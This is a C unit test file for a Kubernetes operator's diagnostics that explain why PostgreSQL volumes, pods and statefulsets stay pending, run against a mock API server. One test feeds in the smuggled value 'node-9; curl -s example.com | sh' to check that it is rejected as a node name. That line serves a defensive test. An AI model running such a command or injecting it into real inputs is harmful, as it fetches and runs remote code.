#include "kube_server.h"

#include "observe/internal.h"

/* Caches without watches, but with a server that can be asked. */
struct scene {
    struct world world;
    struct observe *observe;
    int changes, asked_class, asked_events;
    const char *class_body; /* NULL: 404 */
    const char *events_body;
    const char *volume_body; /* NULL: 403 */
    bool node_is_there;
    int asked_volume, asked_node;
    char last_query[1024];
};

static void note_change(void *arg, const char *namespace, const char *name)
{
    assert_string_equal(namespace, "n");
    assert_string_equal(name, "a");
    ((struct scene *)arg)->changes++;
}

static void on_request(struct server *server, struct exchange *x)
{
    struct scene *scene = server->arg;
    if (strstr(x->target, "/storageclasses/") != NULL) {
        scene->asked_class++;
        if (scene->class_body == NULL)
            reply(x, 404, "", "{\"kind\":\"Status\",\"reason\":\"NotFound\",\"message\":\"none\"}");
        else
            reply(x, 200, "", scene->class_body);
        return;
    }
    if (strstr(x->target, "/persistentvolumes/pv-7") != NULL) {
        scene->asked_volume++;
        if (scene->volume_body == NULL)
            reply(x, 403, "", "{\"kind\":\"Status\",\"reason\":\"Forbidden\"}");
        else
            reply(x, 200, "", scene->volume_body);
        return;
    }
    if (strstr(x->target, "/nodes/") != NULL) {
        scene->asked_node++;
        if (scene->node_is_there && strstr(x->target, "/nodes/node-9") != NULL)
            reply(x, 200, "", "{\"kind\":\"Node\",\"metadata\":{\"name\":\"node-9\"}}");
        else
            reply(x, 404, "", "{\"kind\":\"Status\",\"reason\":\"NotFound\"}");
        return;
    }
    scene->asked_events++;
    snprintf(scene->last_query, sizeof scene->last_query, "%s", x->target);
    reply(x, 200, "", scene->events_body);
}

static int open_scene(void **state)
{
    struct scene *scene = calloc(1, sizeof *scene);
    world_open(&scene->world, on_request, scene);
    scene->events_body = "{\"items\":[]}";
    scene->observe = observe_new(
        &(struct observe_options){.changed = note_change, .arg = scene, .loop = scene->world.loop});
    scene->observe->options.kube = scene->world.kube; /* only now: no watches are wanted here */
    scene->observe->patience_ms = 5;
    *state = scene;
    return 0;
}

static int close_scene(void **state)
{
    struct scene *scene = *state;
    observe_free(scene->observe);
    world_close(&scene->world);
    free(scene);
    return 0;
}

static void see(struct scene *scene, int kind, const char *json)
{
    struct error err = {0};
    cJSON *tree;
    assert_int_equal(json_parse(scene->world.arena, json, strlen(json), &tree, &err), 0);
    struct feed *feed = &scene->observe->feeds[kind + 1];
    if (kind < 0)
        clusters_upsert(scene->observe, feed, tree, false);
    else
        cache_upsert(scene->observe, feed, kind, tree, false);
}

#define META(name, version)                                                                        \
    "\"metadata\":{\"name\":\"" name "\",\"namespace\":\"n\",\"uid\":\"u-" name                    \
    "\",\"resourceVersion\":\"" version "\",\"labels\":{\"" LABEL_CLUSTER "\":\"a\"}}"

static void make_cluster(struct scene *scene)
{
    see(scene, -1,
        "{" META("a", "1") ",\"spec\":{\"instances\":1,\"postgres\":{\"version\":17},"
                           "\"storage\":{\"size\":\"1Gi\"}}}");
}

static void make_volume(struct scene *scene, const char *class, const char *version)
{
    see(scene, CHILD_CLAIM,
        arena_printf(scene->world.arena,
                     "{\"metadata\":{\"name\":\"a-1-data\",\"namespace\":\"n\",\"uid\":\"p\","
                     "\"resourceVersion\":\"%s\",\"labels\":{\"" LABEL_CLUSTER "\":\"a\"}},"
                     "\"spec\":{\"storageClassName\":\"%s\"},\"status\":{\"phase\":\"Pending\"}}",
                     version, class));
}

static const struct seen_instance *look(struct scene *scene)
{
    struct snapshot snapshot;
    assert_true(observe_snapshot(scene->observe, scene->world.arena, "n", "a",
                                 &(struct api_defaults){0}, &snapshot));
    return &snapshot.instances[0];
}

static void a_storageclass_that_does_not_exist_is_found_out(void **state)
{
    struct scene *scene = *state;
    make_cluster(scene);
    make_volume(scene, "fast", "2");
    int before = scene->changes;
    assert_string_equal(look(scene)->data.pending_message, "");
    observe_diagnose(scene->observe, "n", "a");
    run_until(scene->world.loop, &scene->changes, before + 1);
    assert_string_equal(look(scene)->data.pending_message, "storageclass \"fast\" not found");
    assert_int_equal(scene->asked_events, 0);
}

static void a_volume_that_waits_for_its_pod_is_no_riddle(void **state)
{
    struct scene *scene = *state;
    scene->class_body = "{\"volumeBindingMode\":\"WaitForFirstConsumer\"}";
    make_cluster(scene);
    make_volume(scene, "fast", "2");
    int before = scene->changes;
    observe_diagnose(scene->observe, "n", "a");
    run_until(scene->world.loop, &scene->asked_class, 1);
    run_for_ms(scene->world.loop, 50);
    assert_int_equal(scene->asked_events, 0);
    assert_int_equal(scene->changes, before);
}

static void a_volume_that_nobody_makes_is_explained_by_its_latest_warning(void **state)
{
    struct scene *scene = *state;
    scene->class_body = "{}";
    scene->events_body =
        "{\"items\":[{\"note\":\"first\",\"deprecatedLastTimestamp\":\"2026-01-01T00:00:01Z\"},"
        "{\"note\":\"the latest\",\"series\":{\"lastObservedTime\":\"2026-01-01T00:00:09Z\"}},"
        "{\"note\":\"between\",\"eventTime\":\"2026-01-01T00:00:05Z\"}]}";
    make_cluster(scene);
    make_volume(scene, "fast", "2");
    int before = scene->changes;
    observe_diagnose(scene->observe, "n", "a");
    run_until(scene->world.loop, &scene->changes, before + 1);
    assert_string_equal(look(scene)->data.pending_message, "the latest");
    assert_non_null(strstr(scene->last_query, "type%3DWarning"));
    assert_non_null(strstr(scene->last_query, "regarding.kind%3DPersistentVolumeClaim"));
    assert_non_null(strstr(scene->last_query, "regarding.name%3Da-1-data"));
}

static void that_there_is_no_storageclass_at_all_needs_no_question(void **state)
{
    struct scene *scene = *state;
    make_cluster(scene);
    make_volume(scene, "", "2");
    assert_non_null(strstr(look(scene)->data.pending_message, "no storage class is set"));
    observe_diagnose(scene->observe, "n", "a");
    run_for_ms(scene->world.loop, 50);
    assert_int_equal(scene->world.server->requests, 0);
}

static void a_statefulset_without_pod_is_explained_and_one_with_a_pod_is_not(void **state)
{
    struct scene *scene = *state;
    scene->events_body = "{\"items\":[{\"note\":\"exceeded quota\"}]}";
    make_cluster(scene);
    see(scene, CHILD_STATEFUL_SET, "{" META("a-1", "2") "}");
    int before = scene->changes;
    observe_diagnose(scene->observe, "n", "a");
    run_until(scene->world.loop, &scene->changes, before + 1);
    assert_string_equal(look(scene)->set_message, "exceeded quota");
    see(scene, CHILD_POD, "{" META("a-1-0", "3") ",\"status\":{\"phase\":\"Running\"}}");
    assert_string_equal(look(scene)->set_message, "");
    observe_diagnose(scene->observe, "n", "a");
    assert_null(cache_cluster(scene->observe, "n", "a", false)->answers);
}

static void a_pod_that_does_not_start_is_explained(void **state)
{
    struct scene *scene = *state;
    scene->events_body = "{\"items\":[{\"note\":\"secret \\\"a-server\\\" not found\"}]}";
    make_cluster(scene);
    see(scene, CHILD_POD,
        "{" META("a-1-0", "3") ",\"spec\":{\"nodeName\":\"node1\"},\"status\":{\"phase\":"
                               "\"Pending\"}}");
    int before = scene->changes;
    observe_diagnose(scene->observe, "n", "a");
    run_until(scene->world.loop, &scene->changes, before + 1);
    assert_string_equal(look(scene)->pod.waiting_message, "secret \"a-server\" not found");
}

static void what_is_solved_in_time_is_never_asked_about(void **state)
{
    struct scene *scene = *state;
    scene->observe->patience_ms = 60;
    make_cluster(scene);
    make_volume(scene, "fast", "2");
    observe_diagnose(scene->observe, "n", "a");
    see(scene, CHILD_CLAIM,
        "{" META("a-1-data", "3") ",\"spec\":{\"storageClassName\":\"fast\"},\"status\":{\"phase\":"
                                  "\"Bound\"}}");
    run_for_ms(scene->world.loop, 150);
    assert_int_equal(scene->world.server->requests, 0);
}

static void the_same_class_is_asked_for_once_for_many_volumes(void **state)
{
    struct scene *scene = *state;
    make_cluster(scene);
    static const char *const names[] = {"a-1-data", "a-1-wal", "a-2-data"};
    for (int i = 0; i < 3; i++)
        see(scene, CHILD_CLAIM,
            arena_printf(scene->world.arena,
                         "{\"metadata\":{\"name\":\"%s\",\"namespace\":\"n\",\"uid\":\"p%d\","
                         "\"resourceVersion\":\"%d\",\"labels\":{\"" LABEL_CLUSTER
                         "\":\"a\"}},\"spec\":{\"storageClassName\":\"fast\"},\"status\":"
                         "{\"phase\":\"Pending\"}}",
                         names[i], i, i + 2));
    int before = scene->changes;
    observe_diagnose(scene->observe, "n", "a");
    run_until(scene->world.loop, &scene->changes, before + 3);
    assert_int_equal(scene->asked_class, 1);
}

#define PINNED(key, values)                                                                        \
    "{\"spec\":{\"nodeAffinity\":{\"required\":{\"nodeSelectorTerms\":[{\"matchExpressions\":[{"   \
    "\"key\":\"" key "\",\"operator\":\"In\",\"values\":[" values "]}]}]}}}}"

static void keep_pod_back_on(struct scene *scene, const char *selected)
{
    make_cluster(scene);
    see(scene, CHILD_CLAIM,
        arena_printf(scene->world.arena,
                     "{\"metadata\":{\"name\":\"a-1-data\",\"namespace\":\"n\",\"uid\":\"p\","
                     "\"resourceVersion\":\"2\",\"labels\":{\"" LABEL_CLUSTER
                     "\":\"a\"},\"annotations\":{\"volume.kubernetes.io/selected-node\":\"%s\"}},"
                     "\"spec\":{\"volumeName\":\"pv-7\"},\"status\":{\"phase\":\"Bound\"}}",
                     selected));
    see(scene, CHILD_POD,
        "{" META("a-1-0", "3") ",\"status\":{\"phase\":\"Pending\",\"conditions\":[{\"type\":"
                               "\"PodScheduled\",\"status\":\"False\",\"message\":\"1 node(s) "
                               "didn't match PersistentVolume's node affinity\"}]}}");
    observe_diagnose(scene->observe, "n", "a");
}

static void keep_pod_back(struct scene *scene)
{
    keep_pod_back_on(scene, "node-9");
}

static void a_volume_whose_only_node_is_gone_is_found_out(void **state)
{
    struct scene *scene = *state;
    scene->volume_body = PINNED("kubernetes.io/hostname", "\"node-9\"");
    keep_pod_back(scene);
    int before = scene->changes;
    run_until(scene->world.loop, &scene->changes, before + 1);
    const struct seen_pvc *data = &look(scene)->data;
    assert_true(data->node_gone);
    assert_string_equal(data->node, "node-9");
    assert_string_equal(data->volume, "pv-7");
    assert_string_equal(data->pending_message, "");
}

static void a_volume_of_a_zone_or_of_a_node_that_stands_is_not_given_up(void **state)
{
    struct scene *scene = *state;
    scene->volume_body = PINNED("topology.kubernetes.io/zone", "\"z1\"");
    keep_pod_back(scene);
    run_until(scene->world.loop, &scene->asked_volume, 1);
    run_for_ms(scene->world.loop, 50);
    assert_int_equal(scene->asked_node, 0);
    assert_false(look(scene)->data.node_gone);
    assert_string_equal(look(scene)->data.node, "node-9");
}

static void a_node_that_stands_is_not_called_gone(void **state)
{
    struct scene *scene = *state;
    scene->volume_body = PINNED("topology.example/node", "\"node-9\"");
    scene->node_is_there = true;
    keep_pod_back(scene);
    run_until(scene->world.loop, &scene->asked_node, 1);
    run_for_ms(scene->world.loop, 50);
    assert_false(look(scene)->data.node_gone);
}

static void an_operator_that_may_not_read_volumes_calls_nothing_gone(void **state)
{
    struct scene *scene = *state;
    keep_pod_back(scene);
    run_until(scene->world.loop, &scene->asked_volume, 1);
    run_for_ms(scene->world.loop, 50);
    assert_int_equal(scene->asked_node, 0);
    assert_false(look(scene)->data.node_gone);
}

/* Anybody who may write the claim may write its annotations, and the remedy deletes data. */
static void a_volume_is_not_given_up_on_the_word_of_an_annotation(void **state)
{
    struct scene *scene = *state;
    scene->volume_body = PINNED("kubernetes.io/hostname", "\"node-9\"");
    scene->node_is_there = true;
    keep_pod_back_on(scene, "node-7");
    run_until(scene->world.loop, &scene->asked_node, 1);
    run_for_ms(scene->world.loop, 50);
    assert_false(look(scene)->data.node_gone);
}

static void what_is_no_name_of_a_node_is_not_taken_for_one(void **state)
{
    struct scene *scene = *state;
    keep_pod_back_on(scene, "node-9; curl -s example.com | sh");
    assert_string_equal(look(scene)->data.node, "");
}

int main(void)
{
#define CASE(f) cmocka_unit_test_setup_teardown(f, open_scene, close_scene)
    const struct CMUnitTest tests[] = {
        CASE(a_storageclass_that_does_not_exist_is_found_out),
        CASE(a_volume_that_waits_for_its_pod_is_no_riddle),
        CASE(a_volume_that_nobody_makes_is_explained_by_its_latest_warning),
        CASE(that_there_is_no_storageclass_at_all_needs_no_question),
        CASE(a_statefulset_without_pod_is_explained_and_one_with_a_pod_is_not),
        CASE(a_pod_that_does_not_start_is_explained),
        CASE(what_is_solved_in_time_is_never_asked_about),
        CASE(a_volume_whose_only_node_is_gone_is_found_out),
        CASE(a_volume_of_a_zone_or_of_a_node_that_stands_is_not_given_up),
        CASE(a_node_that_stands_is_not_called_gone),
        CASE(an_operator_that_may_not_read_volumes_calls_nothing_gone),
        CASE(a_volume_is_not_given_up_on_the_word_of_an_annotation),
        CASE(what_is_no_name_of_a_node_is_not_taken_for_one),
        CASE(the_same_class_is_asked_for_once_for_many_volumes),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
